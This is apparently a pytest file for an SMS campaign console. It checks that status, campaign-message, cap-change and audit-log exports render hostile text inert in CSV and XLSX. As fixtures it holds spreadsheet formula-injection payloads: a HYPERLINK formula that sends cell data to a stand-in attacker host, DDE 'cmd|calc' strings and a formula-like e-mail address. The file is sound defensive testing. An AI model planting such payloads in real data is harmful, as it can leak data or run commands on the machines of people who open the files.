"""The console's own exports (Status, a campaign's messages, the Limits audit trail, the Audit
log) go through ``kedacore.exports``: hostile text read back from the files is inert, numbers
stay numbers."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from console.finance.audit import export_frame as audit_log_export
from console.finance.views import audit_export
from console.views import StatusRow, status_csv
from kedacore.analytics import to_csv, to_xlsx
from kedacore.api.types import SendResult, SentMessage
from kedacore.campaign import CampaignEngine
from kedacore.ledger import CapChange, Ledger, StatusUpdate
from kedacore.team import normalize_email
from tests.kedacore.test_exports import assert_inert_csv, assert_inert_xlsx

NOW = datetime(2026, 1, 31, 10, tzinfo=UTC)
# Within the ledger's 32 characters for a sender (PostgreSQL enforces them, SQLite does not).
SENDER = '=HYPERLINK("http://ev.il?"&A2)'
RECIPIENTS = ["+12065550100", "+12065550101"]


@pytest.fixture
def ledger(ledger_url: Callable[..., str]):
    with Ledger(ledger_url(), clock=lambda: NOW) as led:
        cid = led.create_campaign("@SUM(1+9)*cmd|' /C calc'!A0")
        result = SendResult(
            task_id="20260131-0001",
            message="ok",
            debited_amount=Decimal("0.1"),
            currency="USD",
            segments=2,
            messages=tuple(SentMessage(f"msg_{i:012x}", r) for i, r in enumerate(RECIPIENTS)),
        )
        led.record_send(result, country="US", sender=SENDER, content="hi", campaign_id=cid)
        led.apply_statuses(
            [StatusUpdate("msg_000000000000", "SENT", sent_at=NOW, cost_micros=50_000)]
        )
        yield led


def test_the_status_and_campaign_message_exports_quote_text_not_numbers(ledger: Ledger) -> None:
    campaign = ledger.campaigns()[0]
    engine = CampaignEngine(ledger, lambda: None)  # the page's export: engine.messages
    for messages in (engine.messages(campaign.id), ledger.task_messages("20260131-0001")):
        data = status_csv([StatusRow.from_ledger(m) for m in messages])
        assert_inert_csv(data, [SENDER, *RECIPIENTS])
        rows = list(csv.DictReader(io.StringIO(data.decode())))
        assert [r["recipient"] for r in rows] == ["'" + r for r in RECIPIENTS]
        assert rows[0]["cost"] == "0.05" and rows[0]["latency_ms"] == ""
        assert rows[0]["msgid"] == "msg_000000000000"
        assert rows[0]["sent_utc"] == "2026-01-31T10:00:00Z"


def test_the_cap_trail_exports_quote_a_hostile_member_address() -> None:
    # Who changed the caps is the signed-in member's e-mail: one may start like a formula.
    who = "-1+cmd|calc@evil.example"
    assert normalize_email(who) == who  # a sign-in provider could hand this address over
    rows = [
        CapChange(1, "a" * 32, NOW, who, "daily_spend_cap", Decimal("-0"), Decimal("2.5")),
    ]
    frame = audit_export(rows)
    assert_inert_csv(to_csv(frame), [who])
    assert_inert_xlsx(to_xlsx({"cap_changes": frame}), [who])
    exported = next(csv.DictReader(io.StringIO(to_csv(frame).decode())))
    assert exported["after"] == "2.5" and exported["before"] == "0"


def test_the_audit_log_export_quotes_every_text_a_person_typed(
    ledger_url: Callable[..., str],
) -> None:
    """Who, the target and the detail (a removal's reason, a rejection's reason) come from
    people; the export of the Audit page writes each as inert text."""
    who = '=HYPERLINK("http://evil.example")@evil.example'
    reason = "@SUM(1+9)*cmd|' /C calc'!A0"
    target = "+12065550123"
    with Ledger(ledger_url(), clock=lambda: NOW) as led:
        led.audit(who, "member_remove", target=target, before={"roles": ["-2+3"]}, detail=reason)
        cap = {"before": {"daily_spend_cap": None}, "after": {"daily_spend_cap": Decimal("2.5")}}
        led.audit("fin@example.com", "caps_change", target="daily caps", **cap)
        frame = audit_log_export(led.audit_entries(), "USD")
    assert_inert_csv(to_csv(frame), [who, reason, target])
    assert_inert_xlsx(to_xlsx({"audit_log": frame}), [who, reason, target])
    rows = list(csv.DictReader(io.StringIO(to_csv(frame).decode())))
    assert [r["action"] for r in rows] == ["caps_change", "member_remove"]  # newest first
    assert rows[0]["change"] == "Daily spend cap: no cap → 2.50 USD"
    assert rows[0]["after"] == '{"daily_spend_cap": "2.5"}'  # the recorded JSON, exact
    assert rows[1]["at"] == "2026-01-31T10:00:00Z"
